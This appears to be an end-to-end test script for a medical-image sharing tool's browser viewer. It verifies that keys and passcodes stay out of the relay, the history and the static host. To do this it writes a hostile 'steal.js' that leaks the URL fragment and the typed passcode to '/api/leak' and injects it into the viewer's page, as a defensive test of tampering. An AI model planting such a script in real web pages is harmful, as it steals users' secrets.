// The viewer's origin (ADR 8, issue 15 points 3 and 7), end to end in Debian chromium: a relay
// operator who holds a modified viewer cannot learn a link's key or passcode; nothing reaches the
// relay before the reader clicks; the fragment leaves the address bar and the history once read;
// `scanpass viewer-check` tells the genuine build from one with a byte changed; the first screen
// on a phone (screenshot in $OUT).
//
//   node origin-test.mjs   (env: SCANPASS_BIN, SCANPASS_RELAY_BIN, SCANPASS_WEB_DIST, SAMPLES, OUT)
//
// Written against what a link is, not how it is spelled, so that it also runs against the relay
// and CLI from before ADR 8 (and fails there, as it should).

import { execFileSync, spawnSync } from "node:child_process";
import { cpSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { tmpdir } from "node:os";
import { launch } from "./browser.mjs";
import { FIRST, startCapture, startRelay, startViewerHost } from "./hosts.mjs";

const BIN = process.env.SCANPASS_BIN;
const RELAY = process.env.SCANPASS_RELAY_BIN;
const DIST = process.env.SCANPASS_WEB_DIST;
const SAMPLES = process.env.SAMPLES;
const OUT = process.env.OUT;
mkdirSync(OUT, { recursive: true });
const tmp = mkdtempSync(join(tmpdir(), "scanpass-origin-"));
const env = { ...process.env, SCANPASS_PASSPHRASE: "origin-test-vault" };

let passed = 0;
let failed = 0;
function check(name, ok, detail = "") {
  if (ok) passed++;
  else failed++;
  console.log(`${ok ? "ok  " : "FAIL"} ${name}${detail ? ` — ${detail}` : ""}`);
}
const sp = (args, extra = {}) => execFileSync(BIN, args, { env: { ...env, ...extra }, encoding: "utf8", stdio: ["ignore", "pipe", "pipe"] });
const children = [];
// whatever happens, no relay, proxy or host is left running
process.on("exit", () => children.forEach((c) => c.kill()));

// ---- the relay operator's modified viewer: sends the fragment and the typed passcode home ----
// A script of its own among the viewer's files (so that a `script-src 'self'` policy, which the
// operator sets anyway, lets it run), loaded first by the page.
const evil = join(tmp, "evil-viewer");
cpSync(DIST, evil, { recursive: true });
writeFileSync(
  join(evil, "assets", "steal.js"),
  `fetch("/api/leak?h=" + encodeURIComponent(location.hash)).catch(() => {});
document.addEventListener("submit", () => {
  const p = document.getElementById("passcode");
  fetch("/api/leak?p=" + encodeURIComponent(p ? p.value : "")).catch(() => {});
}, true);
`,
);
const indexHtml = readFileSync(join(DIST, "index.html"), "utf8");
const assetsAt = /src="([^"]*)assets\//.exec(indexHtml)?.[1] ?? "./";
writeFileSync(join(evil, "index.html"), indexHtml.replace("<head>", `<head><script src="${assetsAt}assets/steal.js"></script>`));

// The relay, given that viewer to serve (before ADR 8 it would: --web DIR); when it refuses, an
// ordinary relay. Either way, everything it receives goes through the capture.
let relay;
let refusedWeb = false;
try {
  relay = await startRelay(RELAY, tmp, ["--fail-burst", "1000", "--web", evil]);
} catch {
  refusedWeb = true;
  relay = await startRelay(RELAY, tmp, ["--fail-burst", "1000"]);
}
children.push(relay.child);
check("the relay refuses to serve a viewer of its operator's (--web DIR)", refusedWeb);
const capFile = join(tmp, "capture.bin");
const cap = await startCapture(relay.url, capFile);
children.push(cap.child);
const captured = () => {
  try {
    return readFileSync(capFile);
  } catch {
    return Buffer.alloc(0);
  }
};
const requestsSeen = () => captured().toString("latin1").split("\n\0---\0\n").filter((r) => r.trim()).length;

// The genuine viewer on its own origin (the static host stand-in), with a log of what it is sent.
const hostLog = join(tmp, "viewer-host.log");
const host = await startViewerHost(DIST, { log: hostLog });
children.push(host.child);
const VIEWER = host.url;

// ---- shares, made by the CLI through the capture ----
const study = join(SAMPLES, "dicom-test-files/WG04/REF/CT1_UNC");
const vault = join(tmp, "vault");
sp(["--vault", vault, "import", study, "--json"]);
const studyId = JSON.parse(sp(["--vault", vault, "studies", "--json"]))[0].id;
const PASSCODE = "tulip harbour copper 7781";
const share = (passcode) =>
  JSON.parse(
    sp(["--vault", vault, "share", studyId, "--relay", cap.url, "--json", ...(passcode ? ["--passcode-env", "ORIGIN_PASS"] : [])], {
      ORIGIN_PASS: passcode ?? "",
      SCANPASS_VIEWER: VIEWER,
    }),
  );
const plain = share(null);
const withPass = share(PASSCODE);
// the key is the last part of a link, with or without its passcode mark, whatever the form
const keyOf = (link) => link.split(/[#/]/).pop().replace(/^p\./, "");
const secretsOf = (link) => {
  const k = keyOf(link);
  return [k, Buffer.from(k, "base64url").toString("hex")];
};
const opened = (p) => p.evaluate(() => ({ ...window.__scanpass, imageToCanvas: undefined }));
const relayOrigin = new URL(cap.url).origin;

const browser = await launch();
try {
  await browserChecks();
} catch (e) {
  // a viewer that does not behave (one from before ADR 8 has no first screen): said, then on
  check("the browser checks ran to their end", false, e.message.split("\n")[0]);
} finally {
  await browser.close();
}

async function browserChecks() {
  // ---- (b) nothing reaches the relay before the click; (e) the first screen on a phone ----
  const phone = await browser.newContext({ viewport: { width: 360, height: 740 }, deviceScaleFactor: 2, isMobile: true, hasTouch: true });
  const page = await phone.newPage();
  const errors = [];
  page.on("pageerror", (e) => errors.push(e.message));
  page.on("console", (m) => m.type() === "error" && errors.push(m.text()));
  const toRelay = [];
  page.on("request", (r) => r.url().startsWith(relayOrigin) && toRelay.push(r.url()));
  const before = requestsSeen();
  await page.goto(plain.link);
  await page.waitForFunction((re) => window.__scanpass && new RegExp(re).test(window.__scanpass.state), FIRST.source, { timeout: 10000 }).catch(() => {});
  await page.waitForTimeout(1500); // anything deferred would have gone by now
  const first = await opened(page);
  const sentBefore = requestsSeen() - before;
  const button = await page.isVisible("#passcode-submit");
  const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
  await page.screenshot({ path: join(OUT, "first-screen-phone-360.png") });
  check(
    "before the click: the first screen, and not one request to the relay (a link checker spends nothing)",
    first.state === "closed" && button && sentBefore === 0 && toRelay.length === 0 && first.manifestAt === null,
    `state ${first.state}, button ${button ? "shown" : "absent"}, ${sentBefore} request(s) at the relay, ${toRelay.length} from the page`,
  );
  check("the first screen fits a 360 px phone", overflow <= 0, `overflow ${overflow}px`);

  // ---- (c) once read, the fragment is out of the address bar and the history ----
  const historyBefore = await page.evaluate(() => history.length);
  const hashBefore = await page.evaluate(() => location.hash);
  if (await page.isVisible("#passcode-submit")) await page.click("#passcode-submit");
  await page.waitForFunction(() => window.__scanpass.firstImageAt !== null || /^error/.test(window.__scanpass.state), null, { timeout: 30000 });
  const after = await page.evaluate(() => ({ hash: location.hash, href: location.href, length: history.length }));
  const cdp = await phone.newCDPSession(page);
  const nav = await cdp.send("Page.getNavigationHistory");
  const [key] = secretsOf(plain.link);
  const inHistory = nav.entries.filter((e) => e.url.includes(key) || e.url.includes("#")).length;
  check(
    "after the click: the study shows, served by the relay only now",
    (await opened(page)).state === "viewer-ready" && requestsSeen() - before > 0,
    `state ${(await opened(page)).state}, ${requestsSeen() - before} request(s) at the relay`,
  );
  check(
    "after opening: no fragment in the address bar, no history entry holding the key",
    hashBefore === "" && after.hash === "" && !after.href.includes(key) && after.length === historyBefore && inHistory === 0,
    `hash on the first screen ${hashBefore ? "still there" : "gone"}, after ${after.hash ? "still there" : "gone"}; history ${historyBefore} -> ${after.length}; ${inHistory} of ${nav.entries.length} history entries with a fragment or the key`,
  );
  await page.screenshot({ path: join(OUT, "opened-phone-360.png") });
  check("no script errors on the page", errors.length === 0, errors.slice(0, 3).join(" | "));
  await phone.close();

  // ---- (a) a passcode share opened end to end: the relay receives neither key nor passcode ----
  const desk = await browser.newContext({ viewport: { width: 1280, height: 800 } });
  const pp = await desk.newPage();
  await pp.goto(withPass.link);
  await pp.waitForFunction((re) => window.__scanpass && new RegExp(re).test(window.__scanpass.state), FIRST.source, { timeout: 10000 }).catch(() => {});
  await pp.screenshot({ path: join(OUT, "first-screen-passcode.png") });
  const asked = (await opened(pp)).state;
  if (asked === "passcode") {
    await pp.fill("#passcode", PASSCODE);
    await pp.click("#passcode-submit");
  }
  await pp.waitForFunction(() => window.__scanpass.firstImageAt !== null || /^error/.test(window.__scanpass.state), null, { timeout: 30000 }).catch(() => {});
  const shown = (await opened(pp)).state;
  await desk.close();
  const all = captured();
  const hostSaw = (() => {
    try {
      return readFileSync(hostLog);
    } catch {
      return Buffer.alloc(0);
    }
  })();
  const secrets = [...secretsOf(plain.link), ...secretsOf(withPass.link), PASSCODE, encodeURIComponent(PASSCODE)];
  const atRelay = secrets.filter((s) => all.includes(s)).length;
  const atHost = secrets.filter((s) => hostSaw.includes(s)).length;
  check(
    "a passcode share opened in the browser: the relay received no key (base64url or hex) and no passcode",
    asked === "passcode" && shown === "viewer-ready" && atRelay === 0 && !all.includes("/api/leak"),
    `asked ${asked}, then ${shown}; ${requestsSeen()} requests captured, ${atRelay} of ${secrets.length} secrets in them`,
  );
  check("the viewer's static host received no key and no passcode either (all in the fragment)", hostSaw.length > 0 && atHost === 0, `${hostSaw.length} bytes of requests, ${atHost} secrets`);

  // the relay's answer to the old form of link: no script
  const old = await fetch(`${relay.url}/s/${withPass.id}`);
  const body = await old.text();
  const csp = old.headers.get("content-security-policy") ?? "";
  check(
    "the relay's /s/<id> answer carries no script, under a CSP that runs nothing",
    !/<script|src=|href=/i.test(body) && /^default-src 'none'/.test(csp) && !csp.includes("script-src"),
    `HTTP ${old.status}, ${body.length} bytes, CSP "${csp.slice(0, 60)}"`,
  );
}

// ---- (d) viewer-check: the genuine served build passes; a byte changed fails, naming the file ----
try {
  const good = spawnSync(BIN, ["viewer-check", VIEWER], { env, encoding: "utf8" });
  check("scanpass viewer-check passes on the genuine build served", good.status === 0, (good.stdout || good.stderr).trim());
  const tampered = join(tmp, "tampered");
  cpSync(DIST, tampered, { recursive: true });
  const script = readdirSync(join(tampered, "assets")).find((f) => /^index-.*\.js$/.test(f));
  const file = join(tampered, "assets", script ?? "missing.js");
  let changed = false;
  try {
    const b = readFileSync(file);
    b[Math.floor(b.length / 2)] ^= 0x01;
    writeFileSync(file, b);
    changed = true;
  } catch {}
  const bad = await startViewerHost(tampered, { prefix: "/viewer/0.1.0/" });
  children.push(bad.child);
  const r = spawnSync(BIN, ["viewer-check", bad.url], { env, encoding: "utf8" });
  const said = (r.stderr || r.stdout).trim();
  check(
    "one byte of one served file changed: viewer-check fails, naming that file",
    changed && r.status !== 0 && said.includes(`assets/${script}`) && said.split("\n").length === 1,
    said,
  );
} catch (e) {
  check("the viewer-check checks ran to their end", false, e.message.split("\n")[0]);
}

for (const c of children) c.kill();
rmSync(tmp, { recursive: true, force: true });
console.log(`origin: ${passed} passed, ${failed} failed`);
process.exit(failed ? 1 : 0);
